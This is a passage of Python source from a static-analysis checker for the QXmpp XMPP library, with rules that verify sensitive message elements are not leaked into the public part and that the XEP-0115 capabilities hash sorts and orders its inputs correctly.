            if _combine(base, region_of(f, i)) != 'Sensitive' and not any(_combine(base, region_of(f, j)) == 'Sensitive' for j in _guarded_nodes(f, i)):
                continue
            gs = [g for g in prog.callee_fns(f, n) if g.entry is not None]
            if s_['qname'] in seen:
                continue
            if not gs:
                raise AnalysisBroken('C17.R2e: the body of %s is not among the analysed units (add its unit to C17.UNITS)' % s_['qname'])
            seen.add(s_['qname'])
            g = gs[0]
            run.instance(rid)
            needs = []
            for j, m in g.calls():
                cn = g.cname(m) or ''
                if cn in ('QDomElement::hasAttribute', 'QDomElement::attribute', 'QDomElement::attributeNS', 'QDomElement::hasAttributeNS') and m.get('args'):
                    needs.append(('attribute', g.strval(m['args'][0]) or '?'))
                elif cn in ('QDomNode::firstChildElement', 'QXmpp::Private::firstChildElement', 'QDomElement::text', 'QDomNode::hasChildNodes'):
                    needs.append(('child', g.fmt(j, inline=False)[:40]))
            if not needs:
                run.ok(rid, g.loc(), '%s decides by tag name and namespace only' % s_['qname'], nontrivial=False)
                continue
            T = s_['record']
            writers = [w for w in prog.fns.values() if w.record == T and w.entry is not None and not w.is_lambda and any('QXmlStreamWriter' in p_['t'] for p_ in w.params)]
            bad = None
            for kind, name in needs:
                if kind != 'attribute':
                    bad = (kind, name, 'the writer is not required to emit it')
                    break
                # enumerators the predicate exempts: evaluate the predicate with the attribute absent, once per enumerator of the type its tag tests name
                # (a tag-name comparison with typeToString(E') is true exactly in the world of E'); E is exempt when a return that is reachable there can be true
                exempt = _exempt_enumerators(prog, g, name)
                worlds = [None]
                tfield = None
                if exempt:
                    en = prog.enums.get(sorted(exempt)[0].rsplit('::', 1)[0])
                    tf = [fl for r_ in prog.records.values() if r_['qname'].startswith(T) for fl in r_.get('fields', []) if en and (fl.get('t') or '').endswith(en['qname'].split('::')[-1])]
                    if en and len(tf) == 1:
                        tfield = tf[0].get('qname')
                        worlds = [e_['qname'] if isinstance(e_, dict) and 'qname' in e_ else (en['qname'] + '::' + (e_['name'] if isinstance(e_, dict) else e_)) for e_ in en['enumerators']]

                def event_of(w_, nid, name=name):
                    m = w_.nodes[nid]
                    if m['k'] == 'call' and (w_.cname(m) or '') == 'QXmlStreamWriter::writeAttribute' and m.get('args') and w_.strval(m['args'][0]) == name:
                        return 'W'
                    return None
                for world in worlds:
                    if world is not None and world in exempt:
                        continue
                    binds = {'field:' + tfield: ('enum', world)} if world is not None else None
                    always = False
                    for w in writers:
                        seqs = cfgx.effect_sequences(prog, w, event_of, bindings=binds)
                        if seqs and all('W' in q for q in seqs):
                            always = True
                    if not always:
                        bad = (kind, name, 'the writer emits it only when the member is non-empty (writeOptionalXmlAttribute / conditional)' +
                               (' for %s' % world.split('::')[-1] if world else ''))
                        break
                if bad:
                    break
            if bad:
                run.violation(rid, '%s#requires-%s:%s' % (T, bad[0], bad[1]), g.loc(),
                              '%s insists on the %s "%s", but %s: a %s serialized without it in the sensitive part is parsed back as an unknown extension (the field is lost, and the '
                              'element is written in the public part when the parsed message is serialized again)' % (s_['qname'], bad[0], bad[1], bad[2], T))
            else:
                run.ok(rid, g.loc(), '%s: every attribute it insists on is always written by the writer' % s_['qname'])


def _guarded_nodes(f, call):
    """nodes of the blocks control-dependent on the condition the call sits in (one level): the region of what the predicate guards"""
    out = []
    for b in f.blocks.values():
        t = b.get('term')
        if t and t.get('cond') is not None and call in set(f.walk(t['cond'])):
            for s_ in b['succs'][:1]:
                if s_ is not None:
                    out += list(f.blocks[s_]['elems'])
    return out


def _exempt_enumerators(prog, g, attr):
    mentioned = sorted({n.get('enum') for n in g.nodes if n['k'] == 'enum' and n.get('enum')})
    if len(mentioned) != 1 or mentioned[0] not in prog.enums:
        return set()
    en = prog.enums[mentioned[0]]
    out = set()
    for e_ in en['enumerators']:
        world = en['qname'] + '::' + e_['name']

        def derives_from_tag(f, nid, depth=0):
            for j in f.walk(nid):
                m = f.nodes[j]
                if m['k'] == 'call' and (f.cname(m) or '') == 'QDomElement::tagName':
                    return True
                if m['k'] == 'var' and m.get('vk') == 'local' and depth < 3:
                    d = f.single_def(m.get('decl'))
                    if d is not None and derives_from_tag(f, d, depth + 1):
                        return True
            return False

        def custom(f, nid, st, world=world):
            m = f.nodes[nid]
            if m['k'] == 'call':
                cn = f.cname(m) or ''
                if cn in ('QDomElement::hasAttribute', 'QDomElement::hasAttributeNS') and m.get('args') and f.strval(m['args'][0]) == attr:
                    return (False,)
                if (f.sym(m) or {}).get('name') in ('has_value', 'operator bool') and m.get('obj') is not None and derives_from_tag(f, m['obj']):
                    return (True,)          # the tag names some element of the class
            bo = f.binop(nid)
            if bo and bo[0] in ('==', '!='):
                for x, y in ((bo[1], bo[2]), (bo[2], bo[1])):
                    ens = [f.nodes[j]['name'] for j in f.walk(x) if f.nodes[j]['k'] == 'enum']
                    if len(ens) == 1 and derives_from_tag(f, y):
                        return ((ens[0] == world) == (bo[0] == '=='),)
                if any((f.cname(f.nodes[j]) or '') == 'QDomNode::namespaceURI' for x in bo[1:] for j in f.walk(x) if f.nodes[j]['k'] == 'call'):
                    return (bo[0] == '==',)
            return None
        ev = cfgx.Evaluator(g, {}, custom=custom, prog=prog)
        reach = cfgx.reachable_blocks(g, lambda f, c, st: ev.ev(c, st))
        can_accept = False
        for bid in reach:
            for eid in g.blocks[bid]['elems']:
                m = g.nodes[eid]
                if m['k'] == 'ret' and 'e' in m:
                    v = ev.ev(m['e'])
                    if v is not False:
                        can_accept = True
        if can_accept:
            out.add(world)
    return out


# --------------------------------------------------------------------------- R2f: a recognised sensitive element is consumed
def r2f_claimed(prog, run, par):
    rid = run.rule('C17.R2f', 'inside the sensitive region of the message parser, an arm that has recognised its element (tag / namespace / class predicate) never reports it as '
                              'unhandled: "return false" there hands the element to the list of unknown extensions, which is written in every mode - a malformed attachment or '
                              'reaction would be re-sent in the public part', floor=10)
    n_arms = 0
    for f, base in _codec_scope(prog, par):
        if f.is_lambda:
            continue
        for i, n in f.returns():
            if 'e' not in n:
                continue
            reg = _combine(base, region_of(f, i))
            tests = []
            for c, p in f.atomic_assertions_at(i):
                if p is not True:
                    continue
                t = f.fmt(c, inline=True)
                cn = f.nodes[f.skip(c)]
                is_call_test = cn['k'] == 'call' and ((f.cname(cn) or '').endswith('checkElement') or ((f.sym(cn) or {}).get('name') or '').startswith('is') and cn.get('args')
                                                       and f.fmt(cn['args'][0]) == 'p0')
                is_cmp = f.binop(f.skip(c)) and f.binop(f.skip(c))[0] == '==' and ('p0.QDomElement::tagName()' in t or 'p0.QDomNode::namespaceURI()' in t)
                if is_call_test or is_cmp:
                    tests.append(t)
            if reg != 'Sensitive' or not tests:
                continue
            n_arms += 1
            run.instance(rid)
            v = f.const_value(n['e'])
            if v == ('bool', False):
                run.violation(rid, '%s#recognised-element-unhandled' % f.outer_name(), f.loc(i),
                              '%s returns false although it has recognised the element (%s) as part of the sensitive content: the caller stores it as an unknown extension, and '
                              'those are serialized in the public part as well' % (f.display()[:50], tests[-1][:70]))
            else:
                run.ok(rid, f.loc(i), 'recognised element consumed', nontrivial=False)
