"""C20 — the entity-capabilities hash is the XEP-0115 value, order- and duplicate-blind (structural clauses)."""
import itertools

from .. import cfgx
from ..build import AnalysisBroken
from ..effects import top_function

UNITS = ['base/QXmppDiscoveryIq.cpp', 'client/QXmppDiscoveryManager.cpp', 'client/QXmppClient.cpp', 'base/QXmppDataForm.cpp']
VS = 'QXmppDiscoveryIq::verificationString'
IDENT = 'QXmppDiscoveryIq::Identity::'
KEYS = ['category', 'type', 'language', 'name']
NON_MUTATING = ('begin', 'end', 'constBegin', 'constEnd', 'cbegin', 'cend', 'size', 'count', 'isEmpty', 'join', 'contains', 'at', 'value', 'keys',
                'first', 'last', 'length', 'constFirst', 'constLast', 'toList', 'toVector', 'indexOf')


def run(prog, run):
    run.explanation = ('verificationString(): every loop that appends to the hashed string iterates a local container that was sorted after its last '
                       'mutation with an i;octet comparator (features additionally de-duplicated); the identity comparator is evaluated for all 81 '
                       'orderings of (category, type, language, name) and must be the strict lexicographic order; the piece/terminator discipline of the '
                       'string is a typestate over all paths; FORM_TYPE is removed from the map and appended first; SHA-1 on both sides; the presence '
                       'hash and the disco#info answer both come from QXmppDiscoveryManager::capabilities(), and the hash is recomputed wherever the '
                       'available client presence is emitted.')
    run.assume('equality with an independent XEP-0115 implementation on all inputs (values containing "<", duplicate form keys, several forms) is not decided; '
               'staleness after addExtension()/setClientName() on a live session without a new presence is a history claim (not decided)')
    r_sort(prog, run)
    r_cmp(prog, run)
    r_string(prog, run)
    r_source(prog, run)
    r_multi(prog, run)
    r_reply(prog, run)
    r_form_as_received(prog, run)
    r_same_manager(prog, run)


# ---------------------------------------------------------------------------------------------------------------
def _is_char(f, nid, code, s):
    n = f.nodes[f.skip(nid)]
    if n['k'] == 'construct' and len(n.get('args', [])) == 1:
        n = f.nodes[f.skip(n['args'][0])]
    if n['k'] in ('char', 'int') and n.get('v') == code:
        return True
    return n['k'] == 'str' and n.get('v') == s


def _flatten(f, nid):
    nid = f.skip(nid)
    bo = f.binop(nid)
    if bo and bo[0] == '+':
        return _flatten(f, bo[1]) + _flatten(f, bo[2])
    return [nid]


def _is_utf8(f, nid):
    """nid (behind implicit casts only) is <QString>.toUtf8()"""
    while f.nodes[nid]['k'] in ('icast', 'cast') or (f.nodes[nid]['k'] == 'construct' and len(f.nodes[nid].get('args', [])) == 1 and f.nodes[nid].get('cls') == 'QByteArray'):
        nid = f.nodes[nid]['e'] if 'e' in f.nodes[nid] else f.nodes[nid]['args'][0]
    n = f.nodes[nid]
    return n['k'] == 'call' and f.cname(n) == 'QString::toUtf8'


def _strip_conv(f, nid):
    """look through toUtf8()/toString()/implicit conversions down to the variable / call that is the operand"""
    nid = f.skip(nid)
    n = f.nodes[nid]
    while n['k'] == 'call' and n.get('obj') is not None and f.cname(n) in ('QString::toUtf8', 'QString::toLatin1') or \
            (n['k'] == 'construct' and len(n.get('args', [])) == 1 and n.get('cls') in ('QString', 'QStringList', 'QList')):
        nid = f.skip(n['obj'] if n['k'] == 'call' else n['args'][0])
        n = f.nodes[nid]
    return nid


def string_less_kind(prog, f, expr):
    """classify a boolean expression over the two parameters of a comparator: 'octet' (UTF-8 byte order), 'utf16', 'locale', or None.
    Returns (kind, swapped)"""
    e = f.skip(expr)
    n = f.nodes[e]
    bo = f.binop(e)
    if bo and bo[0] in ('<', '>'):
        ops = [bo[1], bo[2]] if bo[0] == '<' else [bo[2], bo[1]]
        info = []
        for o in ops:
            utf8 = _is_utf8(f, o)
            base = f.nodes[_strip_conv(f, o)]
            info.append((utf8, base.get('pidx') if base['k'] == 'var' and base.get('vk') == 'param' else None))
        if info[0][1] is None or info[1][1] is None or info[0][1] == info[1][1]:
            return None
        swapped = info[0][1] > info[1][1]
        if info[0][0] and info[1][0]:
            return ('octet', swapped)
        if not info[0][0] and not info[1][0]:
            return ('utf16', swapped)
        return None
    return None


def _callable_target(prog, f, nid, depth=0):
    """the Fn a callable expression denotes: function reference, &function, lambda expression, or a (possibly captured) local that holds a lambda"""
    if nid is None or depth > 4:
        return None
    n = f.nodes[f.skip(nid)]
    if n['k'] == 'fnref' or (n['k'] == 'un' and n.get('op') == '&'):
        m = n if n['k'] == 'fnref' else f.nodes[f.skip(n['e'])]
        cands = prog.callee_fns(f, m)
        return cands[0] if cands else None
    if n['k'] == 'lambda':
        ls = prog.lambda_fns(f, n)
        return ls[0] if ls else None
    if n['k'] == 'var' and n.get('vk') == 'local':
        g = f
        if n.get('outer'):
            # captured: the definition is in an enclosing function
            while g is not None and not any(d.get('var') == n['decl'] for _, dn in g.all_nodes('decl') for d in dn['decls']):
                g = prog.fns.get(g.parent_id) if g.is_lambda else None
            if g is None:
                return None
        d = g.single_def(n['decl'])
        return _callable_target(prog, g, d, depth + 1) if d is not None else None
    if n['k'] in ('cast', 'icast', 'construct') and (n.get('e') is not None or n.get('args')):
        return _callable_target(prog, f, n['e'] if n.get('e') is not None else n['args'][0], depth + 1)
    return None


def comparator_kind(prog, f, nid):
    """kind of the ordering a comparator argument (function reference, lambda, local holding a lambda) implements on two strings"""
    target = _callable_target(prog, f, nid)
    if target is None:
        return None, None
    rets = [rn for _, rn in target.returns()]
    if len(rets) != 1:
        return None, target
    k = string_less_kind(prog, target, rets[0]['e'])
    if k is None:
        # QString::compare / localeAwareCompare forms are recognisably not i;octet
        txt = target.fmt(rets[0]['e'], inline=False)
        if 'QString::compare' in txt or 'QString::localeAwareCompare' in txt:
            return ('utf16', False), target
        return None, target
    return k, target


def _mentions_identity(prog, g, depth=0):
    """the function (or a same-file key function it calls) reads accessors of QXmppDiscoveryIq::Identity"""
    for i, n in g.calls():
        if g.cname(n).startswith(IDENT):
            return True
    if depth < 2:
        for i, n in g.calls():
            if not n.get('op'):
                for h in prog.callee_fns(g, n):
                    if h.file == g.file and h.entry is not None and h.id != g.id and _mentions_identity(prog, h, depth + 1):
                        return True
    return False


def _sort_sites(prog, f):
    """{container var decl: [(nid, kind, detail)]} for std::sort(X.begin(), X.end()[, cmp]) and X.sort()"""
    out = {}
    for i, n in f.calls():
        cn = f.cname(n)
        if cn in ('std::sort', 'std::stable_sort') and len(n['args']) >= 2:
            a0, a1 = f.nodes[f.skip(n['args'][0])], f.nodes[f.skip(n['args'][1])]
            if a0['k'] != 'call' or a1['k'] != 'call' or a0.get('obj') is None or a1.get('obj') is None:
                continue
            if not f.cname(a0).endswith('::begin') or not f.cname(a1).endswith('::end'):
                continue
            v0, v1 = f.nodes[f.skip(a0['obj'])], f.nodes[f.skip(a1['obj'])]
            if v0['k'] != 'var' or v1['k'] != 'var' or v0['decl'] != v1['decl']:
                continue
            cmp_arg = n['args'][2] if len(n['args']) > 2 else None
            out.setdefault(v0['decl'], []).append((i, 'std::sort', cmp_arg, v0.get('t', '')))
        elif cn.endswith('::sort') and n.get('obj') is not None and 'QString' in cn:
            v = f.nodes[f.skip(n['obj'])]
            if v['k'] == 'var':
                out.setdefault(v['decl'], []).append((i, 'QStringList::sort', None, v.get('t', '')))
    return out


def _loops(f):
    """range-for loops: (cond block id, loopvar decl, container var node or None, body blocks)"""
    out = []
    dom = f.dom()
    for b in f.blocks.values():
        t = b.get('term')
        if not t or t.get('k') != 'rangefor':
            continue
        rn = f.nodes[f.skip(t['range'])]
        body_entry = b['succs'][0]
        body = {x for x in f.blocks if ('b', body_entry) in dom.get(('b', x), set())} if body_entry is not None else set()
        out.append((b['id'], t['loopvar'], rn if rn['k'] == 'var' else None, body, t))
    return out


def _s_var(f):
    """(decl id of the string that is hashed, node of the digest call, node of the algorithm argument)"""
    for i, n in f.calls('QCryptographicHash::addData'):
        base = f.nodes[_strip_conv(f, n['args'][0])]
        if base['k'] == 'var' and base.get('vk') == 'local':
            ctor = [c for _, c in f.all_nodes('construct') if c.get('cls') == 'QCryptographicHash']
            return base['decl'], i, (ctor[0]['args'][0] if ctor and ctor[0].get('args') else None)
    for i, n in f.calls('QCryptographicHash::hash'):
        if len(n.get('args', [])) >= 2:
            base = f.nodes[_strip_conv(f, n['args'][0])]
            if base['k'] == 'var' and base.get('vk') == 'local':
                return base['decl'], i, n['args'][1]
    raise AnalysisBroken('C20: the digest over a local string (hasher.addData(S...) / QCryptographicHash::hash(S..., alg)) not found in verificationString')


def _root_is(f, nid, sdecl):
    """the expression is the string variable itself or a chain of append() calls on it"""
    n = f.nodes[f.skip(nid)]
    while n['k'] == 'call' and f.cname(n) in ('QString::append', 'QString::operator+=') and (n.get('obj') is not None or n.get('opargs')):
        n = f.nodes[f.skip(n['obj'] if n.get('obj') is not None else n['opargs'][0])]
    return n['k'] == 'var' and n.get('decl') == sdecl


def _appends(f, sdecl):
    """[(node, appended expression)] in the function: S += e, S.append(e) (also chained)"""
    out = []
    for i, n in f.all_nodes('assign'):
        if n['op'] == '+=' and f.nodes[f.skip(n['l'])].get('decl') == sdecl:
            out.append((i, n['r']))
    for i, n in f.calls():
        cn = f.cname(n)
        if cn == 'QString::append' and n.get('obj') is not None and n.get('args') and _root_is(f, n['obj'], sdecl):
            out.append((i, n['args'][0]))
        elif cn == 'QString::operator+=' and len(n.get('opargs', [])) == 2 and _root_is(f, n['opargs'][0], sdecl):
            out.append((i, n['opargs'][1]))
    return out


def _scope(prog):
    """[(function, decl of the hashed string in it)]: verificationString and the same-file helpers it hands the string to by reference"""
    f = prog.fn(VS)
    sdecl = _s_var(f)[0]
    out = [(f, sdecl)]
    seen = {f.id}
    work = [(f, sdecl)]
    while work:
        g, sd = work.pop()
        for i, n in g.calls():
            if n.get('op'):
                continue
            for k, a in enumerate(n.get('args', [])):
                an = g.nodes[g.skip(a)]
                if an['k'] == 'var' and an.get('decl') == sd:
                    for h in prog.callee_fns(g, n):
                        if h.file == f.file and h.entry is not None and h.id not in seen and k < len(h.params) \
                                and 'QString &' in h.params[k]['t'] and 'const' not in h.params[k]['t']:
                            seen.add(h.id)
                            out.append((h, h.params[k]['var']))
                            work.append((h, h.params[k]['var']))
        # helpers whose returned string is appended: S += capsFormString(form)
        for i, expr in _appends(g, sd):
            for part in _flatten(g, expr):
                pn = g.nodes[part]
                if pn['k'] != 'call' or pn.get('op'):
                    continue
                for h in prog.callee_fns(g, pn):
                    if h.file != f.file or h.entry is None or h.id in seen or 'QString' not in (pn.get('t') or ''):
                        continue
                    hd = _returned_local(h)
                    if hd is not None:
                        seen.add(h.id)
                        out.append((h, hd))
                        work.append((h, hd))
    return out


def _returned_local(h):
    """decl of the local string every return of h returns, or None"""
    decls = set()
    for _, rn in h.returns():
        if 'e' not in rn:
            return None
        v = h.nodes[_strip_conv(h, rn['e'])]
        if v['k'] != 'var' or v.get('vk') != 'local':
            return None
        decls.add(v['decl'])
    return decls.pop() if len(decls) == 1 else None


def _helper_calls(prog, g, sd, scope):
    """{call node in g: (helper Fn, its string decl)} for calls that hand the hashed string to a scope helper"""
    by_id = {h.id: (h, hsd) for h, hsd in scope}
    out = {}
    for i, n in g.calls():
        if n.get('op'):
            continue
        if any(g.nodes[g.skip(a)].get('decl') == sd and g.nodes[g.skip(a)]['k'] == 'var' for a in n.get('args', [])):
            for h in prog.callee_fns(g, n):
                if h.id in by_id and h.id != g.id:
                    out[i] = by_id[h.id]
    # an append whose only piece is the string returned by a scope helper: the helper's pieces land here
    for i, expr in _appends(g, sd):
        parts = _flatten(g, expr)
        if len(parts) == 1:
            pn = g.nodes[parts[0]]
            if pn['k'] == 'call' and not pn.get('op'):
                for h in prog.callee_fns(g, pn):
                    if h.id in by_id and h.id != g.id and _returned_local(h) == by_id[h.id][1]:
                        out[i] = by_id[h.id]
    return out


def r_sort(prog, run):
    rid = run.rule('C20.R1', 'every container whose elements are appended to the hashed string is a local copy sorted (after its last mutation) with the '
                             'i;octet collation; features are de-duplicated; multi-values are sorted before being joined', floor=5)
    scope = _scope(prog)
    total = sum(len(_appends(g, sd)) for g, sd in scope)
    if total < 5:
        raise AnalysisBroken('C20.R1: only %d appends to the hashed string found' % total)
    seen_sources = set()
    n_joins = 0
    for f, sdecl in scope:
        apps = _appends(f, sdecl)
        helper_calls = _helper_calls(prog, f, sdecl, scope)
        sorts = _sort_sites(prog, f)
        loops = _loops(f)

        def check_sorted(container, use_nid, what, need_dedup=False, f=f, sorts=sorts):
            run.instance(rid)
            if container is None or container.get('vk') != 'local':
                run.violation(rid, 'verificationString#%s#unsorted' % what, f.loc(use_nid), 'the %s are appended in the order they are stored (no sorted local copy)' % what)
                return
            decl = container['decl']
            ss = [x for x in sorts.get(decl, []) if f.node_dominates(x[0], use_nid)]
            if not ss:
                run.violation(rid, 'verificationString#%s#unsorted' % what, f.loc(use_nid), 'the %s reach the hashed string without being sorted on every path' % what)
                return
            x = ss[-1]
            # collation
            elem_is_string = 'QString' in x[3] or 'QStringList' in x[3]
            if x[1] == 'QStringList::sort' or (x[2] is None and elem_is_string):
                run.violation(rid, 'verificationString#%s#collation' % what, f.loc(x[0]),
                              'the %s are sorted with QString\'s operator< (UTF-16 code unit order); XEP-0115 requires i;octet (UTF-8 byte order), which differs '
                              'for characters outside the BMP' % what)
                return
            if x[2] is not None:
                kind, target = comparator_kind(prog, f, x[2])
                if target is not None and _mentions_identity(prog, target):
                    pass  # the identity comparator is decided by C20.R2
                elif kind is None:
                    raise AnalysisBroken('C20.R1: comparator %s of the %s sort has a form the checker does not know' % (f.fmt(x[2], inline=False)[:40], what))
                elif kind[0] != 'octet' or kind[1]:
                    run.violation(rid, 'verificationString#%s#collation' % what, f.loc(x[0]),
                                  'the %s are sorted %s; XEP-0115 requires ascending i;octet order' % (what, 'descending' if kind[1] else 'by ' + kind[0] + ' order'))
                    return
            # mutations after the sort
            for i, n in f.calls():
                if n.get('obj') is None:
                    continue
                v = f.nodes[f.skip(n['obj'])]
                if v['k'] != 'var' or v.get('decl') != decl:
                    continue
                m = f.cname(n).split('::')[-1]
                if m in NON_MUTATING or m == 'removeDuplicates' or m == 'sort':
                    continue
                if f.node_dominates(x[0], i) and not f.node_dominates(use_nid, i):
                    run.violation(rid, 'verificationString#%s#mutated-after-sort' % what, f.loc(i), 'the sorted %s are modified (%s) before being appended' % (what, m))
                    return
            if need_dedup:
                dd = [i for i, n in f.calls() if f.cname(n).endswith('::removeDuplicates') and n.get('obj') is not None
                      and f.nodes[f.skip(n['obj'])].get('decl') == decl and f.node_dominates(i, use_nid)]
                if not dd:
                    run.violation(rid, 'verificationString#%s#duplicates' % what, f.loc(use_nid), 'a repeated feature is hashed twice (no removeDuplicates on the sorted copy)')
                    return
            run.ok(rid, f.loc(x[0]), '%s: sorted local copy (%s)%s' % (what, f.fmt(x[0], inline=False)[:70], ', de-duplicated' if need_dedup else ''))

        for cond_bid, loopvar, container, body, t in loops:
            inside = [i for i, _ in apps if f.pos(i) and f.pos(i)[0] in body] + [i for i in helper_calls if f.pos(i) and f.pos(i)[0] in body]
            if not inside:
                continue
            # where does the container come from?
            src = ''
            if container is not None:
                d = f.single_def(container['decl'])
                src = f.fmt(d, inline=False) if d is not None else ''
            what = 'identities' if 'identities' in src else 'features' if 'features' in src else 'form field keys' if '::keys()' in src else 'elements of ' + f.fmt(t['range'], inline=False)[:30]
            seen_sources.add(what)
            first_decl = [i for i, n in f.all_nodes('decl') if any(d.get('name', '').startswith('__range') and f.skip(d.get('init')) == f.skip(t['range']) for d in n['decls'])]
            use = first_decl[0] if first_decl else inside[0]
            check_sorted(container, use, what, need_dedup=(what == 'features'))
        # multi-values
        for i, n in f.calls():
            if not (f.cname(n).endswith('::join') and n.get('obj') is not None):
                continue
            n_joins += 1
            v = f.nodes[f.skip(n['obj'])]
            check_sorted(v if v['k'] == 'var' else None, i, 'field values')
            run.instance(rid)
            if n['args'] and _is_char(f, n['args'][0], 60, '<'):
                run.ok(rid, f.loc(i), 'multi-values joined with "<"')
            else:
                run.violation(rid, 'verificationString#field-values#separator', f.loc(i), 'multi-values are not separated by "<"')
    f0 = scope[0][0]
    for need in ('identities', 'features', 'form field keys'):
        if need not in seen_sources:
            run.instance(rid)
            run.violation(rid, 'verificationString#%s#missing' % need, f0.loc(), 'the %s do not contribute to the hashed string' % need)
    if not n_joins:
        raise AnalysisBroken('C20.R1: the multi-value join was not found')


# ---------------------------------------------------------------------------------------------------------------
def r_cmp(prog, run):
    rid = run.rule('C20.R2', 'the identity comparator is the strict lexicographic order on (category, type, xml:lang, name) under i;octet for all 81 orderings '
                             'of the four keys; the hashed identity string uses the same four accessors in the same order', floor=82)
    f = prog.fn(VS)
    cmpf = None
    for g, _sd in _scope(prog):
        for decl, ss in _sort_sites(prog, g).items():
            for x in ss:
                if x[2] is not None:
                    target = _callable_target(prog, g, x[2])
                    if target is not None and _mentions_identity(prog, target):
                        cmpf = target
    if cmpf is None:
        run.instance(rid)
        run.violation(rid, 'verificationString#identities#comparator', f.loc(), 'identities are not sorted with a comparator over their four keys')
        return
    tf = _tuple_form(prog, cmpf)
    if tf is not None:
        # K(a) < K(b) with K = tuple of keys: std::tuple's operator< is the lexicographic order of the components (library contract)
        keys, utf8, swapped = tf
        for rel in itertools.product((-1, 0, 1), repeat=4):
            run.instance(rid)
            if keys == KEYS and not swapped:
                run.ok(rid, cmpf.loc(), 'ordering %s: decided by the lexicographic operator< of the key tuple (category, type, language, name)' % (rel,), nontrivial=(rel.count(0) >= 2))
        if keys != KEYS or swapped:
            run.violation(rid, 'identityLessThan#not-lexicographic', cmpf.loc(),
                          'the identity comparator orders by the key tuple (%s)%s instead of ascending (category, type, language, name)' % (', '.join(keys), ' descending' if swapped else ''))
        run.instance(rid)
        if all(utf8):
            run.ok(rid, cmpf.loc(), 'all key comparisons use UTF-8 byte order')
        else:
            run.violation(rid, 'identityLessThan#collation', cmpf.loc(), 'identity keys are compared in utf16 order; XEP-0115 requires i;octet (UTF-8 byte order), which differs for '
                                                                          'characters outside the BMP')
        _identity_string(prog, run, rid, f)
        return

    # atoms: comparisons between the same accessor of both parameters
    # a comparator that walks a constant table of accessors (member pointers): the loop is unrolled over the table during the exploration
    tbl = _accessor_table(cmpf)
    cur_key = [None]

    def accessor(g, nid, depth=0):
        n = g.nodes[_strip_conv(g, nid)]
        if n['k'] == 'var' and n.get('vk') == 'local' and depth < 3:
            d0 = g.single_def(n['decl'])
            if d0 is not None:
                return accessor(g, d0, depth + 1)
        if n['k'] == 'call' and g.cname(n).startswith(IDENT) and n.get('obj') is not None:
            o = g.nodes[g.skip(n['obj'])]
            if o['k'] == 'var' and o.get('vk') == 'param':
                return g.cname(n)[len(IDENT):], o['pidx']
        if n['k'] == 'call' and 'fn' in n and not g.cname(n) and tbl and cur_key[0] is not None:
            b = g.nodes[g.skip(n['fn'])]
            if b['k'] == 'bin' and b.get('op') in ('.*', '->*'):
                o = g.nodes[g.skip(b['l'])]
                k_ = g.nodes[g.skip(b['r'])]
                if o['k'] == 'var' and o.get('vk') == 'param' and k_['k'] == 'var' and k_.get('decl') == tbl[0]:
                    return cur_key[0], o['pidx']
        return None

    helper_kind = {}
    kinds_used = set()
    unknown = []

    def atom(g, nid):
        """-> (key, op, swapped) if nid compares the same key of both identities"""
        n = g.nodes[nid]
        bo = g.binop(nid)
        if bo and bo[0] in ('<', '>', '<=', '>=', '==', '!='):
            a, b = accessor(g, bo[1]), accessor(g, bo[2])
            if a and b and a[0] == b[0] and a[1] != b[1]:
                utf8 = [_is_utf8(g, x) for x in (bo[1], bo[2])]
                if bo[0] in ('<', '>', '<=', '>='):
                    kinds_used.add('octet' if all(utf8) else 'utf16')
                return a[0], bo[0], a[1] > b[1]
            return None
        if n['k'] == 'call' and (not n.get('op') or n.get('op') == '()'):
            if n.get('op') == '()':
                cargs = list(n.get('opargs', [])[1:])
                tgt = _callable_target(prog, g, n['opargs'][0]) if n.get('opargs') else None
                cn = g.fmt(n['opargs'][0], inline=False) if n.get('opargs') else '?'
            else:
                cargs = list(n.get('args', []))
                hs = prog.callee_fns(g, n) or prog.fns_named(g.cname(n))
                tgt = hs[0] if hs else None
                cn = g.cname(n)
            if len(cargs) != 2:
                return None
            a, b = accessor(g, cargs[0]), accessor(g, cargs[1])
            if a and b and a[0] == b[0] and a[1] != b[1]:
                if cn not in helper_kind:
                    k = None
                    if tgt is not None:
                        rets = [rn for _, rn in tgt.returns()]
                        if len(rets) == 1:
                            k = string_less_kind(prog, tgt, rets[0]['e'])
                    helper_kind[cn] = k
                k = helper_kind[cn]
                if k is None:
                    unknown.append(cn)
                    return None
                kinds_used.add(k[0])
                return a[0], '<', (a[1] > b[1]) != k[1]
        return None

    bad = []
    n_ok = 0
    for rel in itertools.product((-1, 0, 1), repeat=4):
        relmap = dict(zip(KEYS, rel))

        def custom(g, nid, st):
            if tbl and isinstance(st, tuple) and len(st) > 1 and st[0] == 'run' and g.id == cmpf.id:
                cur_key[0] = tbl[1][st[1] - 1] if 0 < st[1] <= len(tbl[1]) else None
            at = atom(g, nid)
            if at is None:
                return None
            key, op, swapped = at
            if key not in relmap:
                return None
            r = relmap[key]
            if swapped:
                r = -r
            return ({'<': r < 0, '>': r > 0, '<=': r <= 0, '>=': r >= 0, '==': r == 0, '!=': r != 0}[op],)
        ev = cfgx.Evaluator(cmpf, {}, custom=custom)

        def transfer(g, nid, st):
            n = g.nodes[nid]
            if n['k'] == 'ret':
                return ('ret', ev.ev(n['e'], st))
            if tbl and n['k'] == 'decl' and st and st[0] == 'run' and any(d_.get('var') == tbl[0] for d_ in n['decls']):
                return ('run', st[1] + 1)          # next entry of the accessor table
            return None

        def edge_filter(g, bid, edge, st):
            t_ = g.blocks[bid].get('term')
            if tbl and t_ and t_.get('k') == 'rangefor' and t_.get('loopvar') == tbl[0] and st and st[0] == 'run':
                return edge == (0 if st[1] < len(tbl[1]) else 1)
            return True
        exits, info = cfgx.explore(cmpf, ('run', 0) if tbl else ('run',), transfer, lambda g, c, st: ev.ev(c, st), edge_filter=edge_filter)
        run.paths += len(exits)
        expected = next((r < 0 for r in rel if r != 0), False)
        run.instance(rid)
        vals = {st[1] for st in exits if st and st[0] == 'ret'}
        if None in vals or not vals:
            joined = _joins_keys(prog, cmpf)
            if joined is not None:
                g, nid = joined
                run.violation(rid, 'identityLessThan#not-lexicographic', g.loc(nid),
                              'the identity comparator compares one string joined from several keys (%s) instead of comparing key by key: the separator takes part in the '
                              'comparison, so the order differs from (category, type, language, name) as soon as a key contains a character below it' % g.fmt(nid, inline=False)[:70])
                _identity_string(prog, run, rid, f)
                return
            if unknown:
                raise AnalysisBroken('C20.R2: the identity comparator uses %s, whose form the checker does not know' % unknown[0])
            raise AnalysisBroken('C20.R2: the identity comparator does not reduce to comparisons of (category, type, language, name) for ordering %s' % (rel,))
        if vals != {expected}:
            bad.append((rel, vals))
        else:
            n_ok += 1
